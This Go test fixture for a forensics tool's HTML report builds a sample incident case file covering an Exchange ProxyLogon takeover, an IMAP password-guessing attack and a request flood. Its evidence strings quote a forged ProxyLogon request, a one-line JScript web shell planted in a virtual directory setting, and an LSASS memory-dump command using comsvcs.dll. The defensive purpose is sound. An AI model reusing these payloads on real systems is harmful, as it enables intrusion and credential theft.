package html

import (
	"encoding/json"
	"fmt"
	"iter"
	"slices"
	"strings"
	"time"

	"github.com/barid-dfir/barid/internal/casefile"
)

func at(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04:05", s)
	if err != nil {
		panic(err)
	}
	return t
}

func ptr(t time.Time) *time.Time { return &t }

func sum(c string) string { return strings.Repeat(c, 64)[:64] }

// proxyLogon is a mail server taken over, a password stolen, a flood, and evidence that is not whole.
func proxyLogon() *casefile.Case {
	step := func(title, level, stage, tags, first, last string, n int64, actor, source string, line int64, raw string) casefile.Step {
		return casefile.Step{
			Rule:  casefile.Rule{ID: "6c1f5c9e-0d5c-4a54-9f8b-" + fmt.Sprintf("%012d", line), Title: title, Level: level, Tags: strings.Fields(tags)},
			Stage: stage, First: at(first), Last: at(last), Count: n, Hosts: []string{"EX1"}, Actors: []string{actor},
			Evidence: []casefile.Evidence{{Source: source, SHA256: sum("3fa9c07be1"), Line: line, Offset: line * 311, Time: at(first), Raw: raw}},
		}
	}
	return &casefile.Case{
		Schema: casefile.Schema, Barid: casefile.Program{Version: "0.1.0"}, Organisation: &casefile.Organisation{Name: "Example Post"},
		Window: casefile.Window{From: ptr(at("2021-02-26 00:00:02")), To: ptr(at("2021-03-09 23:59:58"))},
		Sources: []casefile.Source{
			{Path: "logs.zip!HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", SHA256: sum("3fa9c07be1"), Bytes: 8_412_337, Format: "exchange.httpproxy.ecp", Host: "EX1", Events: 21_877, From: ptr(at("2021-03-03 06:00:00")), To: ptr(at("2021-03-03 06:59:59")), Errors: []string{}},
			{Path: "logs.zip!W3SVC1/u_ex210303.log", SHA256: sum("a0b1c2"), Bytes: 51_004_112, Format: "iis.w3c", Host: "EX1", Events: 201_334, From: ptr(at("2021-03-03 00:00:00")), To: ptr(at("2021-03-03 23:59:59")), Unparsed: 3, Errors: []string{"line 88,120: 12 values for 15 fields", "line 88,121: no #Fields above it"}},
			{Path: "logs.zip!Security.evtx", SHA256: sum("77e"), Bytes: 20_975_616, Format: "windows.evtx", Host: "EX1", Events: 31_201, From: ptr(at("2021-03-01 10:11:12")), To: ptr(at("2021-03-09 23:59:58")), Duplicates: 12},
			{Path: "mx1/maillog", SHA256: sum("5e"), Bytes: 1_204_118, Format: "syslog", Host: "mx1", Events: 9_120, From: ptr(at("2021-02-26 00:00:02")), To: ptr(at("2021-03-09 23:40:00")), Notes: []string{"year 2021 taken from the file's time", "zone UTC assumed"}},
			{Path: "logs.zip!pagefile.sys", SHA256: sum("90"), Bytes: 4_831_838_208, Errors: []string{}},
		},
		Incidents: []casefile.Incident{
			{
				ID: "i-7f3a", Title: "Exchange server EX1 taken over from 198.51.100.23 (ProxyLogon, CVE-2021-26855)", Severity: "critical", Stage: "Credential Access",
				Techniques: []string{"T1190", "T1505.003", "T1059.001", "T1003.001", "T9999.123"}, First: at("2021-03-03 06:49:46"), Last: at("2021-03-09 23:52:10"), Active: true,
				Hosts: []string{"EX1"}, Actors: []string{"198.51.100.23", "203.0.113.77", "SYSTEM"}, Findings: 412,
				Summary: "Requests from 198.51.100.23 went through the front end to the back end without a login, a web shell was written and used, and the memory of LSASS was read.",
				Steps: []casefile.Step{
					step("Request forged through the front end (ProxyLogon)", "high", "Initial Access", "attack.initial-access attack.t1190 cve.2021-26855", "2021-03-03 06:49:46", "2021-03-03 07:12:03", 61, "198.51.100.23", "logs.zip!HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", 4711, `2021-03-03T06:49:46.210Z,2b1e…,15,1,2176,2,,Ecp,ex1.example.org,/ecp/y.js,,FBA,false,,,,ServerInfo~a]@ex1.example.org:444/autodiscover/autodiscover.xml?#,python-requests/2.25.1,198.51.100.23,EX1,200,200,,POST,Proxy`),
					step("Virtual directory changed to hold a script", "critical", "Persistence", "attack.persistence attack.t1505.003", "2021-03-03 07:12:04", "2021-03-03 07:12:04", 1, "198.51.100.23", "logs.zip!ECP/Server/ECPServer20210303-1.LOG", 12, `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>'`),
					step("Web shell used", "critical", "Persistence", "attack.persistence attack.t1505.003", "2021-03-03 07:13:20", "2021-03-09 23:52:10", 347, "203.0.113.77", "logs.zip!W3SVC1/u_ex210303.log", 88104, `2021-03-03 07:13:20 192.0.2.10 POST /aspnet_client/discover.aspx - 443 - 203.0.113.77 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 31`),
					step("LSASS memory dumped with comsvcs.dll", "critical", "Credential Access", "attack.credential-access attack.t1003.001", "2021-03-03 09:01:33", "2021-03-03 09:01:33", 1, "SYSTEM", "logs.zip!Security.evtx", 2, `CommandLine: rundll32.exe C:\windows\system32\comsvcs.dll MiniDump 684 C:\windows\temp\l.bin full`),
				},
			},
			{
				ID: "i-91bc", Title: "Password of ana guessed over IMAP, mailbox read", Severity: "high", Stage: "Collection", Techniques: []string{"T1110.003", "T1114.002"},
				First: at("2021-03-05 02:10:00"), Last: at("2021-03-05 03:22:41"), Hosts: []string{"mx1"}, Actors: []string{"203.0.113.9", "ana"}, Findings: 88,
				Summary: "After 86 failed logins from 203.0.113.9 to 41 accounts, one succeeded as ana and fetched for 52 minutes.",
				Steps: []casefile.Step{
					step("Many accounts tried from one address", "medium", "Credential Access", "attack.credential-access attack.t1110.003", "2021-03-05 02:10:00", "2021-03-05 02:28:59", 86, "203.0.113.9", "mx1/maillog", 31, `Mar  5 02:10:00 mx1 dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<ana>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.25, TLS`),
					step("Login after guessing", "high", "Initial Access", "attack.initial-access attack.t1078", "2021-03-05 02:30:07", "2021-03-05 02:30:07", 1, "203.0.113.9", "mx1/maillog", 118, `Mar  5 02:30:07 mx1 dovecot: imap-login: Login: user=<ana>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.25, TLS, session=<AAA>`),
				},
			},
			{
				ID: "i-a2", Title: "Flood of requests to the webmail from 240 addresses", Severity: "medium", Stage: "Impact", Techniques: []string{"T1499.002"},
				First: at("2021-03-01 12:00:00"), Last: at("2021-03-01 18:30:00"), Hosts: []string{"web1", "web2", "web3", "web4"}, Findings: 5_200,
				Actors: func() (l []string) {
					for i := range 240 {
						l = append(l, fmt.Sprintf("203.0.113.%d", i))
					}
					return
				}(),
				Summary: "Up to 1,900 requests a second, against 12 on other days.",
			},
			{ID: "i-b", Title: "Scan for known weaknesses", Severity: "low", Stage: "Reconnaissance", Techniques: []string{"T1595.002"}, First: at("2019-11-02 03:00:00"), Last: at("2019-11-02 03:20:00"), Hosts: []string{"web1"}, Actors: []string{"192.0.2.200"}, Findings: 19},
		},
		Sessions: []casefile.Session{{ID: "dovecot AAA", Attribution: "suspected", Accounts: []string{"ana"}, IPs: []string{"203.0.113.9"}, First: at("2021-03-05 02:30:07"), Last: at("2021-03-05 03:22:41"), Why: []string{"login after guessing from the same address"}}},
		Rules:    casefile.Rules{Loaded: 3_844, MinLevel: "low", Rejected: []casefile.RejectedRule{{Path: "rules/own/bad.yml:14", Reason: "modifier “fuzzy” is not known"}, {Path: "rules/own/old.yml:3", Reason: "condition names selection2, which is not defined"}}},
		Summary:  casefile.Summary{Findings: map[string]int64{"critical": 349, "high": 62, "medium": 5_286, "low": 19}},
	}
}

// fromSteps makes a finding for each step.
func fromSteps(c *casefile.Case) iter.Seq2[*casefile.Finding, error] {
	return func(yield func(*casefile.Finding, error) bool) {
		for _, in := range c.Incidents {
			for _, s := range in.Steps {
				f := casefile.Finding{Time: &s.First, Rule: s.Rule, Host: s.Hosts[0], Event: json.RawMessage(`{"c-ip":"203.0.113.77","cs-uri-stem":"/aspnet_client/discover.aspx"}`)}
				f.Source = casefile.Position{Path: s.Evidence[0].Source, Line: s.Evidence[0].Line}
				if !yield(&f, nil) {
					return
				}
			}
		}
	}
}

func nothingFound() *casefile.Case {
	c := proxyLogon()
	c.Incidents, c.Sessions = nil, nil
	c.Summary.Findings = nil
	return c
}

// many is a case of n incidents.
func many(n int) *casefile.Case {
	c := proxyLogon()
	base := c.Incidents
	c.Incidents = nil
	for i := range n {
		in := base[i%len(base)]
		in.ID = fmt.Sprint("i", i)
		in.Severity = levels[(i*7)%len(levels)]
		d := time.Duration(i*i%997) * time.Hour
		was := in.First
		in.First, in.Last = at("2021-03-01 00:00:00").Add(d), at("2021-03-01 00:00:00").Add(d+time.Duration(i%13)*time.Hour)
		in.Active = i%10 == 0
		in.Steps = slices.Clone(in.Steps)
		for j := range in.Steps {
			s := &in.Steps[j]
			move := in.First.Sub(was)
			s.First, s.Last = s.First.Add(move), s.Last.Add(move)
			in.Last = later(in.Last, s.Last)
		}
		c.Incidents = append(c.Incidents, in)
	}
	return c
}
